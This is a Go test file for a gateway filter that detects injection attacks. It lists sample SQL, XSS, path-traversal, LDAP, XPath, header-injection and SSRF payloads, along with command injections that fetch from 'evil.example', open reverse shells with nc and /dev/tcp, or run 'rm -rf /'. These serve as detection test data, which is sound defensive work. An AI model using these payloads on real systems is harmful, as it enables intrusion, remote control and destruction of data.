package injectionfilter

import (
	"encoding/json"
	"html"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gatehouse/gatehouse/gateway/policy"
	"github.com/gatehouse/gatehouse/gateway/policy/policytest"
	"github.com/gatehouse/gatehouse/libs/problem"
)

type header = map[string]string

var sets = []string{"sql", "xss", "path-traversal", "command", "ldap", "xpath", "header-injection", "ssrf"}

const every = "sets: [sql, xss, path-traversal, command, ldap, xpath, header-injection, ssrf]\n"

func all() *matcher { return newMatcher(rules(func(string) bool { return true }), nil) }

// attacks are caught in the query, by the set that they are listed under.
var attacks = map[string][]string{
	"sql": {
		`' OR '1'='1`, `' or 1=1--`, `admin' --`, `admin'#`, `admin'/*`, `") or ("a"="a`, `1 OR 1=1`, `1) or (2=2`, `' or true--`,
		`1 UNION SELECT username, password FROM users`, `-1' UNION ALL SELECT NULL,NULL--`, `1/**/union/**/select/**/1,2,3`,
		`x'; DROP TABLE users; --`, `1;delete from orders`, `1; EXEC xp_cmdshell('dir')`, `' AND SLEEP(5)`, `1 and pg_sleep(10)`,
		`'; WAITFOR DELAY '0:0:5'`, `1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0`, `' HAVING 1=1`, `' order by 3`,
		`1' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))`, `' UNION/*!50000SELECT*/ 1`, `'||(select password from users)`,
		"'\tor\n1 = 1", `' oR 'x' LiKe 'x`, `' and username is not null`, `1 into outfile '/tmp/x'`,
	},
	"xss": {
		`<script>alert(1)</script>`, `<ScRiPt src=//evil>`, `</script >`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`,
		`" onmouseover="alert(1)`, `' autofocus onfocus=alert(1) x='`, `javascript:alert(1)`, `JaVaScRiPt : alert(1)`, "java\nscript:alert(1)",
		`<iframe src=//evil.example>`, `<body onload = go()>`, `<a href="data:text/html;base64,PHN">x</a>`, `<object data="x">`,
		`x=document.cookie`, `String.fromCharCode(88)`, `<meta http-equiv=refresh>`, `<div style="width: expression(alert(1))">`,
		`/*<script>*/`, "<\x00script>", `<details open ontoggle=x()>`,
	},
	"path-traversal": {
		`../../etc/passwd`, `..\..\windows`, `/var/www/../../secret`, `file/..`, `..;/admin`, `/etc/shadow`, `C:\Windows\system32`, `/proc/self/environ`,
		"x\x00.png", "..\xc0\xaf..", `WEB-INF/web.xml`, `....//../x`,
	},
	"command": {
		`; cat /etc/hostname`, `|whoami`, `x && wget http://evil.example/x`, "`whoami`", `$(curl evil.example)`, `$(id)`, `; rm -rf /`,
		`| nc -e /bin/sh 10.0.0.1 4444`, `;ls -la`, `& ping -c 10 127.0.0.1`, `() { :;}; echo x`, `${jndi:ldap://evil/a}`, `${${lower:j}ndi:x}`,
		`; sleep 10`, `cat${IFS}x`, `bash -i >& /dev/tcp/1.2.3.4/99`, `; python3 -c 'x'`, `& powershell -enc AAA`,
	},
	"ldap":  {`*)(uid=*))(|(uid=*`, `admin)(&)`, `x)(|(password=*)`, `*)(objectClass=*`, `(|(uid=a)(uid=b))`},
	"xpath": {`' or count(/*)=1 or 'a'='b`, `'] | //user/*[contains(*,'`, `/child::node()`, `x' and string-length(name)=4`},
	"header-injection": {
		"x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "a\r\n\r\nHTTP/1.1 200 OK", "me@a.example\nBcc: you@b.example",
	},
	"ssrf": {
		`http://127.0.0.1/admin`, `http://localhost:8080`, `http://169.254.169.254/latest/meta-data`, `gopher://x`, `file:///etc/x`,
		`http://[::1]/`, `http://10.1.2.3/`, `https://user@192.168.0.1/`, `http://2130706433/`, `http://0x7f000001/`, `http://metadata.google.internal/`,
		`https://db.internal:5432/`,
	},
}

// ordinary texts pass, with all sets on.
var ordinary = []string{
	"O'Brien", "D'Angelo and Sons", "Rock 'n' Roll", "it's 5 o'clock", `He said "hello" and left`, `"this" or "that"`, "'yes' or 'no'?",
	"SELECT the best option from the list", "please select * where needed", "Western Union", "the union selects its delegates",
	"students' union: select committee", "drop table reservations; call us", "Fine; select a colour and update your profile",
	"insert coin; delete old mail", "R&D; sleep well", "Tom & Jerry; cat food", "a | b | c", "name|id|email", "sort=name;id",
	"sleep 8 hours", "Let's order by phone", "black and white = grey", "x > 3 and y < 4", "3 or 4 people", "1 and 2", "Q&A", "AT&T",
	"C++ & Java", "if (a == b) { return; }", "f(x) = x*x", "(a)(b)", "(see above) (and below)", "5 * (3 + 4)", "100% sure", "50%25 off",
	"2024-01-02T03:04:05Z", "https://www.example.com/path?q=1&r=2#top", "mailto:jane@example.com", "user@example.com", "+49 (30) 1234-567",
	"#hashtag", "-- signed, me", "/* TODO */ later", "<3 you", "a < b > c", "<b>bold</b> and <i>italic</i>", "<p class=\"x\">text</p>",
	"List<Object> and Map<String, Base>", "JavaScript: The Good Parts", "on error resume next", "only once = enough", "\"one\" = 1",
	"version 1..2", "wait... what?", "see docs/readme.md", "/etc is a folder", "C:\\Users\\me\\file.txt", "path/to/file.tar.gz",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0", "curl/8.5.0", "python-requests/2.32",
	"Dear team,\n\nfrom: me\nRegards: you", "line one\r\nline two", "naïve café, 北京, हिन्दी, ไทย", "😀", "$100 (one hundred)", "${name}", "`code`",
	"cost: $(100)", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_", "SGVsbG8gV29ybGQhIQ==", "a=b&c=d", "key: value", "1,2,3", "{\"a\": 1}",
	"like 'that'", "group by group", "between us and them", "not in (this) list", "He's having 2 = fun", "benchmark results", "concat", "the (select few)",
	"union of workers", "She asked: 'or what?'", "'t Hooft", "rock'n'roll and roll", "100 or 200", "and 1 more", "5-4=1 and 3", "what's on = tonight",
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	m := all()
	for set, texts := range attacks {
		only := newMatcher(rules(func(s string) bool { return s == set }), nil)
		for _, text := range texts {
			if got := only.find([]byte(text), inQuery); got != set {
				t.Errorf("%s passes: %q", set, text)
			}
			for name, evade := range map[string]func(string) string{
				"percent":       url.QueryEscape,
				"percent twice": func(s string) string { return url.QueryEscape(url.QueryEscape(s)) },
				"entities":      html.EscapeString,
				"unicode": func(s string) string {
					return strings.NewReplacer("<", `\u003c`, "'", `\u0027`, "/", `\u002f`, "(", `\x28`, ".", `%u002e`).Replace(s)
				},
			} {
				if name == "percent" || name == "percent twice" {
					text = strings.ReplaceAll(text, " ", "\t") // a + is no space beyond the first decoding
				}
				if m.find([]byte(evade(text)), inQuery) == "" {
					t.Errorf("%s passes, by %s: %q", set, name, evade(text))
				}
			}
		}
	}
}

func TestOrdinaryTexts(t *testing.T) {
	t.Parallel()
	m := all()
	for _, text := range ordinary {
		for _, where := range []place{inQuery, inHeader, inBody} {
			if set := m.find([]byte(text), where); set != "" {
				t.Errorf("%q is taken for %s", text, set)
			}
		}
	}
	require.Empty(t, m.find([]byte(strings.Join(ordinary, ". ")), inBody), "all in one text")
}

func TestPlaces(t *testing.T) {
	t.Parallel()
	refused := func(detail string) policytest.Want {
		return policytest.Want{Status: 400, Code: problem.CodeThreatDetected, Detail: detail, NotSent: true}
	}
	const script = `{"a": [1, {"text": "\u003cscript\u003e"}]}`
	policytest.Run(t, Definition(),
		policytest.Case{Name: "nothing", Request: policytest.Request{Path: "/items/1?name=O%27Brien&q=a+b"}},
		policytest.Case{
			Name: "path", Request: policytest.Request{Path: "/items/%27%20or%201=1--"},
			Want: refused("the path looks like an attack (sql)"),
		},
		policytest.Case{
			Name: "query", Request: policytest.Request{Path: "/?a=1&b=%3Cscript%3E"},
			Want: refused(`the parameter "b" of the query looks like an attack (xss)`),
		},
		policytest.Case{
			Name: "name of a parameter", Request: policytest.Request{Path: "/?%3Cscript%3E=1"},
			Want: refused("the name of a parameter of the query looks like an attack (xss)"),
		},
		policytest.Case{Name: "ignored", Config: "ignoreQuery: [code]", Request: policytest.Request{Path: "/?code=%3Cscript%3E"}},
		policytest.Case{
			Name: "header", Request: policytest.Request{Header: header{"User-Agent": "${jndi:ldap://x/a}"}},
			Want: refused("the header field User-Agent looks like an attack (command)"),
		},
		policytest.Case{Name: "another header", Request: policytest.Request{Header: header{"X-Other": "${jndi:ldap://x/a}"}}},
		policytest.Case{
			Name: "JSON", Request: policytest.Request{Method: "POST", Header: header{"Content-Type": "application/json"}, Body: script},
			Want: refused("the body looks like an attack (xss)"),
		},
		policytest.Case{
			Name: "JSON key", Request: policytest.Request{Header: header{"Content-Type": "application/json"}, Body: `{"' or 1=1": 1}`},
			Want: refused("body"),
		},
		policytest.Case{
			Name: "no JSON", Request: policytest.Request{Header: header{"Content-Type": "application/json"}, Body: `{a: '<script>'}`},
			Want: refused("body"),
		},
		policytest.Case{
			Name: "ordinary JSON",
			Request: policytest.Request{
				Header: header{"Content-Type": "application/json"},
				Body:   `{"name": "O'Brien", "or": [1, 2.5e3, true, null], "like": "it's \"fine\"", "path": "a/b"}`,
			},
			Want: policytest.Want{Sent: &policytest.Sent{Body: `{"name": "O'Brien", "or": [1, 2.5e3, true, null], "like": "it's \"fine\"", "path": "a/b"}`}},
		},
		policytest.Case{
			Name: "form",
			Request: policytest.Request{
				Header: header{"Content-Type": "application/x-www-form-urlencoded"}, Body: "a=b&c=%27+or+1%3D1--",
			},
			Want: refused(`the parameter "c" of the body`),
		},
		policytest.Case{
			Name: "text", Request: policytest.Request{Header: header{"Content-Type": "text/plain"}, Body: "hello <script>"}, Want: refused("body"),
		},
		policytest.Case{
			Name: "anything else", Request: policytest.Request{Header: header{"Content-Type": "image/png"}, Body: "hello <script>"},
		},
		policytest.Case{Name: "not examined", Config: "body: false", Request: policytest.Request{Body: "hello <script>"}},
		policytest.Case{
			Name: "too large", Config: "maxBody: 3B", Request: policytest.Request{Body: "hello"},
			Want: policytest.Want{Status: 413, Code: problem.CodeBodyTooLarge, NotSent: true},
		},
		policytest.Case{
			Name: "compressed", Request: policytest.Request{Header: header{"Content-Encoding": "br"}, Body: "x"},
			Want: policytest.Want{Status: 415, Code: problem.CodeUnsupportedMediaType, NotSent: true},
		},
		policytest.Case{Name: "set that is off", Config: "sets: [sql]", Request: policytest.Request{Path: "/?a=%3Cscript%3E"}},
		policytest.Case{
			Name: "own pattern", Config: "{sets: [], patterns: [{name: badword, pattern: '(?i)frob'}]}",
			Request: policytest.Request{Path: "/?a=Fro%62nicate"}, Want: refused("(badword)"),
		},
	)
}

func TestReport(t *testing.T) {
	t.Parallel()
	h := policytest.New(t, Definition(), every+"mode: report")
	r := h.Do(policytest.Request{Path: "/?a=%3Cscript%3E"}, policytest.Upstream{})
	r.Check(policytest.Want{})
	require.Equal(t, map[string]string{"threat": `xss in the parameter "a" of the query`}, r.Exchange().Log.Attributes)
}

func TestConfigurationsThatAreRefused(t *testing.T) {
	t.Parallel()
	for config, pointer := range map[string]string{
		"{sets: []}":                             "/sets",
		"{sets: [voodoo]}":                       "/sets/0",
		"{headers: ['a b']}":                     "/headers/0",
		"{patterns: [{name: x, pattern: 'a*'}]}": "/patterns/0/pattern",
		"{patterns: [{name: x, pattern: '('}]}":  "/patterns/0/pattern",
	} {
		_, err := policytest.Compile(t, Definition(), config)
		var p *problem.Problem
		require.ErrorAs(t, err, &p, config)
		require.Equal(t, pointer, p.Errors[0].Pointer, config)
	}
}

func TestRulesFit(t *testing.T) {
	t.Parallel()
	rs := rules(func(string) bool { return true })
	require.LessOrEqual(t, len(rs), 64)
	a := newAutomaton(rs)
	require.LessOrEqual(t, a.width, 256)
	require.LessOrEqual(t, len(a.found), 1<<16)
	for _, r := range rs {
		require.Contains(t, sets, r.set)
		for _, l := range r.literals {
			require.NotRegexp(t, "[A-Z]", l, "literals are in lower case")
		}
	}
}

// The automaton finds what a plain search finds.
func FuzzAutomaton(f *testing.F) {
	rs := []rule{{literals: []string{"union", "' or"}}, {literals: []string{"or 1", "<script"}}, {literals: []string{"nio"}}}
	a := newAutomaton(rs)
	f.Add("' oR\t\n 1 UNION")
	f.Fuzz(func(t *testing.T, text string) {
		folded := string(normal(nil, []byte(text), false))
		want := uint64(0)
		for i, r := range rs {
			if slices.ContainsFunc(r.literals, func(l string) bool { return strings.Contains(folded, l) }) {
				want |= 1 << i
			}
		}
		require.Equal(t, want, a.scan([]byte(text)), "%q as %q", text, folded)
	})
}

func FuzzFind(f *testing.F) {
	for _, texts := range attacks {
		for _, text := range texts {
			f.Add([]byte(text))
		}
	}
	m := all()
	f.Fuzz(func(t *testing.T, text []byte) {
		before := string(text)
		first := m.find(text, inQuery)
		require.Equal(t, first, m.find(text, inQuery))
		require.Equal(t, before, string(text), "input must not change")
	})
}

func clean() []byte {
	text := "The quick brown fox jumps over the lazy dog, and then it runs away. Nobody has seen it since; some say it was never there. "
	text = strings.ReplaceAll(text, ";", ",")
	b, _ := json.Marshal(map[string]any{"name": "Somebody", "count": 12, "text": strings.Repeat(text, 7), "tags": []string{"one", "two"}})
	return b
}

func TestNothingIsAllocated(t *testing.T) {
	if raceEnabled {
		t.Skip("pools forget at random")
	}
	hooks, err := Definition().Compile(nil, policy.Env{Memo: func(_ string, make func() (any, error)) (any, error) { return make() }})
	require.NoError(t, err)
	ex := &policy.Exchange{}
	ex.Request.Path, ex.Request.Query = "/items/1", "name=O%27Brien&page=2"
	ex.Request.Header.Add("Content-Type", "application/json")
	ex.Request.Header.Add("User-Agent", "curl/8.5.0")
	ex.Request.Body.SetBytes(clean())
	require.Zero(t, testing.AllocsPerRun(100, func() {
		if hooks.Inbound(ex) != nil {
			t.Error("refused")
		}
	}))
}

func BenchmarkFind(b *testing.B) {
	m := all()
	g := &guard{matcher: m}
	buf := make([]byte, 0, 4096)
	for name, text := range map[string]string{
		"json":        string(clean()),
		"punctuation": `{"html": "` + strings.Repeat("It's (in short) <b>fine</b>; see http://example.com/a?b=c. ", 17) + `"}`,
	} {
		b.Run(name, func(b *testing.B) {
			p := []byte(text)
			b.SetBytes(int64(len(p)))
			b.ReportAllocs()
			for b.Loop() {
				if set, _ := g.json(&buf, p); set != "" {
					b.Fatal(set)
				}
			}
		})
	}
}
